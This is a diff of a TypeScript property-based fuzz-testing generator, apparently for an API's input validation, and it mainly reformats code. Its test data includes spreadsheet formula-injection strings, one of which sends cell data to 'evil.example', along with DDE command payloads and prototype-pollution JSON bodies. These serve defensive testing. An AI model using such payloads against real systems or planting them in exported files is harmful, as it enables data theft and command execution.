@@ -28,7 +28,18 @@ export interface SchemaObject {
 }
 
 export interface OpenApiDocument {
-  paths: Record<string, Record<string, { security?: Record<string, unknown>[]; requestBody?: { content?: Record<string, { schema?: SchemaObject }> }; parameters?: { name: string; in: string }[]; responses?: Record<string, unknown> }>>;
+  paths: Record<
+    string,
+    Record<
+      string,
+      {
+        security?: Record<string, unknown>[];
+        requestBody?: { content?: Record<string, { schema?: SchemaObject }> };
+        parameters?: { name: string; in: string }[];
+        responses?: Record<string, unknown>;
+      }
+    >
+  >;
   components?: { schemas?: Record<string, SchemaObject> };
 }
 
@@ -111,7 +122,11 @@ const NASTY_STRINGS = [
 ];
 
 const anyString = fc.oneof(fc.constantFrom(...NASTY_STRINGS), fc.string({ maxLength: 80 }), fc.string({ unit: 'binary', maxLength: 40 }));
-const oddNumber = fc.oneof(fc.constantFrom(0, -1, -0, 1.5, 1e21, -1e21, Number.MAX_SAFE_INTEGER + 2, 10001, 1e9), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer());
+const oddNumber = fc.oneof(
+  fc.constantFrom(0, -1, -0, 1.5, 1e21, -1e21, Number.MAX_SAFE_INTEGER + 2, 10001, 1e9),
+  fc.double({ noNaN: true, noDefaultInfinity: true }),
+  fc.integer(),
+);
 
 /** The latest instant a period may name (InfluxDB's int64 nanoseconds end on 2262-04-11, less margins). */
 export const LATEST_ACCEPTED_MS = Date.UTC(2262, 0, 1);
@@ -162,10 +177,22 @@ export const representableDate: fc.Arbitrary<WrittenDate> = fc.oneof(
   { arbitrary: written(between('2262-04-10T00:00:00Z', '2262-04-13T00:00:00Z')), weight: 1 },
   { arbitrary: written(between('2017-11-20T00:00:00Z', '2017-12-10T00:00:00Z')), weight: 1 },
   {
-    arbitrary: fc.constantFrom(
-      ...['0001-01-01', '0001-01-01T00:00:00Z', '1969-12-31', '1969-12-31T23:59:59.999Z', '1970-01-01', '1970-01-01T00:00:00Z', '2261-12-31', '2262-01-01', '2262-01-01T00:00:00Z'],
-      ...['2262-01-01T00:00:00.001Z', '2262-04-11', '2262-04-11T23:47:16Z', '2262-04-11T23:47:16.854775807Z', '2262-04-12', '2263-01-01', '9999-12-31', '9999-12-31T23:59:59Z'],
-    ).map((text): WrittenDate => ({ text, instantMs: Date.parse(text.length === 10 ? `${text}T00:00:00Z` : text) })),
+    arbitrary: fc
+      .constantFrom(
+        ...[
+          '0001-01-01',
+          '0001-01-01T00:00:00Z',
+          '1969-12-31',
+          '1969-12-31T23:59:59.999Z',
+          '1970-01-01',
+          '1970-01-01T00:00:00Z',
+          '2261-12-31',
+          '2262-01-01',
+          '2262-01-01T00:00:00Z',
+        ],
+        ...['2262-01-01T00:00:00.001Z', '2262-04-11', '2262-04-11T23:47:16Z', '2262-04-11T23:47:16.854775807Z', '2262-04-12', '2263-01-01', '9999-12-31', '9999-12-31T23:59:59Z'],
+      )
+      .map((text): WrittenDate => ({ text, instantMs: Date.parse(text.length === 10 ? `${text}T00:00:00Z` : text) })),
     weight: 2,
   },
 );
@@ -212,7 +239,7 @@ export const formulaName: fc.Arbitrary<string> = fc.oneof(
       .map(([first, rest]) => first + rest),
     weight: 5,
   },
-  { arbitrary: fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"Click")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+2', '-2+3', '\t=1', '\r=1'), weight: 2 },
+  { arbitrary: fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '+1+2', '-2+3', '\t=1', '\r=1'), weight: 2 },
   { arbitrary: fc.stringMatching(/^[a-z0-9]([-a-z0-9]{0,20}[a-z0-9])?$/).filter((n) => n !== 'kube-system'), weight: 1 },
 );
 
@@ -246,7 +273,10 @@ function plausible(name: string, schema: SchemaObject): fc.Arbitrary<unknown> {
 /** A value of the wrong JSON type for the schema: never accepted. */
 function wrongType(schema: SchemaObject): fc.Arbitrary<unknown> {
   const type = schema.type ?? (schema.oneOf ? 'oneOf' : schema.enum ? 'string' : 'string');
-  const objects = fc.oneof(fc.constant({}), fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }).filter((o) => Object.keys(o).length > 0));
+  const objects = fc.oneof(
+    fc.constant({}),
+    fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }).filter((o) => Object.keys(o).length > 0),
+  );
   const arrays = fc.array(fc.jsonValue({ maxDepth: 1 }), { minLength: 1, maxLength: 3 });
   switch (type) {
     case 'integer':
@@ -275,7 +305,10 @@ export function fieldValue(name: string, schema: SchemaObject): fc.Arbitrary<Tag
 }
 
 /** Property names that are not in the schema: the API must refuse them, naming them. */
-const unknownKey = fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', '$where', 'db', 'q', 'params', 'LIMIT', 'Namespace'), fc.string({ minLength: 1, maxLength: 12 }));
+const unknownKey = fc.oneof(
+  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', '$where', 'db', 'q', 'params', 'LIMIT', 'Namespace'),
+  fc.string({ minLength: 1, maxLength: 12 }),
+);
 
 export interface GeneratedBody {
   /** What goes on the wire (already serialized). */
@@ -316,7 +349,11 @@ export function bodyArb(schema: SchemaObject | undefined): fc.Arbitrary<Generate
   const names = Object.keys(props);
   const fieldArbs = Object.fromEntries(names.map((n) => [n, fc.option(fieldValue(n, props[n] as SchemaObject), { nil: undefined, freq: 3 })]));
   const shaped = fc
-    .tuple(fc.record(fieldArbs), fc.array(fc.tuple(unknownKey, fc.jsonValue({ maxDepth: 2 })), { maxLength: 2 }), fc.constantFrom('application/json', 'application/json; charset=utf-8', undefined, 'application/x-www-form-urlencoded', 'text/plain'))
+    .tuple(
+      fc.record(fieldArbs),
+      fc.array(fc.tuple(unknownKey, fc.jsonValue({ maxDepth: 2 })), { maxLength: 2 }),
+      fc.constantFrom('application/json', 'application/json; charset=utf-8', undefined, 'application/x-www-form-urlencoded', 'text/plain'),
+    )
     .map(([fields, extras, contentType]): GeneratedBody => {
       const object: Record<string, unknown> = {};
       let certainlyBad = false;
@@ -341,27 +378,48 @@ export function bodyArb(schema: SchemaObject | undefined): fc.Arbitrary<Generate
     });
   const junk = fc
     .oneof(
-      fc.jsonValue({ maxDepth: 3 }).filter((v) => v === null || typeof v !== 'object' || Array.isArray(v)).map((v) => JSON.stringify(v)),
+      fc
+        .jsonValue({ maxDepth: 3 })
+        .filter((v) => v === null || typeof v !== 'object' || Array.isArray(v))
+        .map((v) => JSON.stringify(v)),
       fc.string({ maxLength: 60 }).map((s) => `{${s}`),
       fc.string({ maxLength: 60 }),
-      fc.constantFrom('', '{}{}', '[', '{"a":1,}', '\u0000', 'null', '[]', '"x"', 'namespace=default&limit=abc', 'a=1&a=2&a=3', '{"__proto__":{"polluted":true}}', '{"constructor":{"prototype":{"x":1}}}'),
+      fc.constantFrom(
+        '',
+        '{}{}',
+        '[',
+        '{"a":1,}',
+        '\u0000',
+        'null',
+        '[]',
+        '"x"',
+        'namespace=default&limit=abc',
+        'a=1&a=2&a=3',
+        '{"__proto__":{"polluted":true}}',
+        '{"constructor":{"prototype":{"x":1}}}',
+      ),
       fc.integer({ min: 200, max: 3000 }).map(nested),
     )
     .chain((text) =>
-      fc.constantFrom('application/json', undefined, 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml').map(
-        (contentType): GeneratedBody => ({ text, contentType, fieldNames: [...names, ...keysSeenByApi(text), 'body'], certainlyBad: true, oversized: false }),
-      ),
+      fc
+        .constantFrom('application/json', undefined, 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml')
+        .map((contentType): GeneratedBody => ({ text, contentType, fieldNames: [...names, ...keysSeenByApi(text), 'body'], certainlyBad: true, oversized: false })),
     );
-  const huge = fc.constantFrom(
-    { text: JSON.stringify({ namespace: 'x'.repeat(1_100_000) }), contentType: 'application/json' },
-    { text: 'a'.repeat(1_100_000), contentType: 'text/plain' },
-  ).map((b): GeneratedBody => ({ ...b, fieldNames: [...names, 'body'], certainlyBad: true, oversized: true }));
+  const huge = fc
+    .constantFrom({ text: JSON.stringify({ namespace: 'x'.repeat(1_100_000) }), contentType: 'application/json' }, { text: 'a'.repeat(1_100_000), contentType: 'text/plain' })
+    .map((b): GeneratedBody => ({ ...b, fieldNames: [...names, 'body'], certainlyBad: true, oversized: true }));
   return fc.oneof({ arbitrary: shaped, weight: 14 }, { arbitrary: junk, weight: 5 }, { arbitrary: huge, weight: 1 });
 }
 
 /** A header value Node's client can send (tab, visible ASCII, space, Latin-1). */
-const headerChar = fc.oneof({ arbitrary: fc.integer({ min: 0x20, max: 0x7e }), weight: 9 }, { arbitrary: fc.integer({ min: 0xa0, max: 0xff }), weight: 1 }).map((c) => String.fromCharCode(c));
-export const headerValue = fc.oneof(fc.string({ unit: headerChar, maxLength: 60 }), fc.string({ unit: headerChar, minLength: 500, maxLength: 4000 }), fc.constantFrom('', ' ', '\t'));
+const headerChar = fc
+  .oneof({ arbitrary: fc.integer({ min: 0x20, max: 0x7e }), weight: 9 }, { arbitrary: fc.integer({ min: 0xa0, max: 0xff }), weight: 1 })
+  .map((c) => String.fromCharCode(c));
+export const headerValue = fc.oneof(
+  fc.string({ unit: headerChar, maxLength: 60 }),
+  fc.string({ unit: headerChar, minLength: 500, maxLength: 4000 }),
+  fc.constantFrom('', ' ', '\t'),
+);
 
 /** Headers a client may get wrong, each present or not; credentials valid or not. */
 export function headersArb(valid: Record<string, string>, token: string): fc.Arbitrary<Record<string, string>> {
@@ -381,8 +439,20 @@ export function headersArb(valid: Record<string, string>, token: string): fc.Arb
     .record({
       'x-username': optional(fc.oneof(fc.constant(valid['x-username'] ?? ''), headerValue)),
       'x-password': optional(fc.oneof(fc.constant(valid['x-password'] ?? ''), headerValue)),
-      authorization: optional(fc.oneof(fc.constant(`Bearer ${token}`), badToken.map((t) => `Bearer ${t}`), headerValue, fc.constant(`Basic ${Buffer.from('a:b').toString('base64')}`))),
-      'content-type': optional(fc.oneof(fc.constantFrom('application/json', 'text/csv', 'application/json; charset=latin1', 'application/x-www-form-urlencoded', '*/*', 'application/vnd.api+json'), headerValue)),
+      authorization: optional(
+        fc.oneof(
+          fc.constant(`Bearer ${token}`),
+          badToken.map((t) => `Bearer ${t}`),
+          headerValue,
+          fc.constant(`Basic ${Buffer.from('a:b').toString('base64')}`),
+        ),
+      ),
+      'content-type': optional(
+        fc.oneof(
+          fc.constantFrom('application/json', 'text/csv', 'application/json; charset=latin1', 'application/x-www-form-urlencoded', '*/*', 'application/vnd.api+json'),
+          headerValue,
+        ),
+      ),
       accept: optional(fc.oneof(fc.constantFrom('text/csv', 'application/json', 'text/csv;q=0', 'application/xml', '*/*;q=0.1, text/csv;q=abc', 'text/*'), headerValue)),
       'accept-encoding': optional(fc.oneof(fc.constantFrom('gzip', 'br', 'identity;q=0', '*;q=0'), headerValue)),
       'content-encoding': optional(fc.constantFrom('gzip', 'deflate', 'br', 'identity', 'bogus')),
